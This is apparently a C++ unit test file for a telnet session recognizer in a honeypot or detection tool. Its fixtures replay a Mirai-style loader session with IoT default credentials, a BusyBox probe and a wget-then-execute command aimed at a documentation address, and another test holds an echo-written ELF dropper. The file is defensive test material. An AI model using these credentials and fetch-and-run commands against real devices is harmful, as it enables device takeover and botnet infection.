// SPDX-License-Identifier: Apache-2.0
#include "recognition/telnet_conversation.h"

#include <gtest/gtest.h>

#include "support/piecewise.h"

namespace hitme::recognition {
namespace {

struct Said {
    Side side;
    std::string_view text;
};

Story watch(const std::vector<Said>& all, std::size_t piece = 4096) {
    TelnetConversation conversation;
    for (const Said& said : all)
        for (const core::Bytes bytes : tests::pieces_of(core::as_bytes(said.text), piece)) {
            if (said.side == Side::client)
                conversation.client(bytes, {});
            else
                conversation.server(bytes, {});
        }
    conversation.finish();
    return conversation.story();
}

std::string fact(const Story& story, std::string_view name) {
    for (const auto& each : story.facts)
        if (each.name == name) return each.value;
    return {};
}

// The order of Mirai's published loader (server.c, connection.c), with a documentation address.
const std::vector<Said> loader = {
    {Side::server, "\xFF\xFD\x01\r\nlogin: "},
    {Side::client, "\xFF\xFC\x01root\r\n"},
    {Side::server, "Password: "},
    {Side::client, "xc3511\r\n"},
    {Side::server, "\r\nBusyBox v1.20.2\r\n# "},
    {Side::client, "enable\r\n"},
    {Side::server, "enable: not found\r\n# "},
    {Side::client, "system\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n"},
    {Side::server, "ECCHI: applet not found\r\n# "},
    {Side::client, "/bin/busybox wget http://192.0.2.9/bins/m.arm -O - > d; ./d\r\n"},
};

TEST(TelnetConversation, TellsALogonAndTheCommandsOfALoader) {
    const Story story = watch(loader);
    EXPECT_EQ(story.stage, event::Stage::payload_delivery);
    EXPECT_EQ(fact(story, "telnet.user"), "root");
    EXPECT_EQ(fact(story, "telnet.credential"), "default credential");
    EXPECT_EQ(fact(story, "telnet.busybox_word"), "ECCHI");
    EXPECT_EQ(fact(story, "telnet.download"), "wget http://192.0.2.9/bins/m.arm");
    EXPECT_EQ(fact(story, "telnet.option"), "WONT 1");
    EXPECT_EQ(story.logons_failed, 0u);
    ASSERT_EQ(story.operations.size(), 7u);
    EXPECT_EQ(story.operations[0].outcome, "accepted");
    EXPECT_EQ(story.operations[1].arguments, "enable");
    EXPECT_EQ(story.operations[1].offset, 17u);  // 3 of the option, "root\r\n" 6, "xc3511\r\n" 8
    std::vector<std::string> names;
    for (const auto& label : story.labels) names.push_back(label.name);
    EXPECT_EQ(names, (std::vector<std::string>{"default credential", "shell download",
                                               "Mirai-like loader"}));
}

TEST(TelnetConversation, CountsRefusedLogons) {
    const Story story = watch({{Side::server, "login: "},
                               {Side::client, "admin\r\n"},
                               {Side::server, "Password: "},
                               {Side::client, "one\r\n"},
                               {Side::server, "\r\nLogin incorrect\r\nlogin: "},
                               {Side::client, "admin\r\n"},
                               {Side::server, "Password: "},
                               {Side::client, "two\r\n"},
                               {Side::server, "\r\nLogin incorrect\r\n"}});
    EXPECT_EQ(story.logons_failed, 2u);
    EXPECT_EQ(story.stage, event::Stage::probe);
    EXPECT_EQ(story.failed_logons.size(), 2u);
    EXPECT_EQ(story.failed_logons[0].account, story.failed_logons[1].account);
}

TEST(TelnetConversation, TakesTheFirstTwoLinesForALogonWhenTheServerIsNotHeard) {
    const Story story = watch({{Side::client, "root\r\nvizxv\r\nsh\r\n"}});
    EXPECT_EQ(fact(story, "telnet.user"), "root");
    ASSERT_EQ(story.operations.size(), 2u);
    EXPECT_EQ(story.operations[1].arguments, "sh");
}

TEST(TelnetConversation, KnowsAProgramThatIsWrittenWithEcho) {
    const Story story = watch(
        {{Side::server, "# "}, {Side::client, "echo -ne \"\\x7f\\x45\\x4c\\x46\\x01\" > .x\n"}});
    EXPECT_EQ(story.stage, event::Stage::payload_delivery);
    EXPECT_EQ(story.labels.at(0).name, "echo loader");
}

TEST(TelnetConversation, TellsTheSameInAnyPiecesAndSurvivesEveryCutAndFlip) {
    const Story whole = watch(loader);
    for (const std::size_t piece : {1u, 2u, 5u}) {
        const Story cut = watch(loader, piece);
        EXPECT_EQ(cut.sentence, whole.sentence);
        EXPECT_EQ(cut.stages, whole.stages);
        EXPECT_EQ(cut.facts.size(), whole.facts.size());
    }
    std::string client;
    for (const Said& said : loader)
        if (said.side == Side::client) client += said.text;
    tests::for_each_cut_and_flip(core::as_bytes(client), [](core::Bytes bytes) {
        TelnetConversation conversation;
        conversation.client(bytes, {});
        conversation.server(bytes, {});
        conversation.finish();
        EXPECT_LE(conversation.memory(), 64u << 10);
    });
}

TEST(TelnetConversation, HoldsABoundedLine) {
    TelnetConversation conversation;
    const std::string piece(100'000, 'x');
    conversation.client(core::as_bytes(piece), {});
    conversation.server(core::as_bytes(piece), {});
    EXPECT_LE(conversation.memory(), 8u << 10);
}

}  // namespace
}  // namespace hitme::recognition
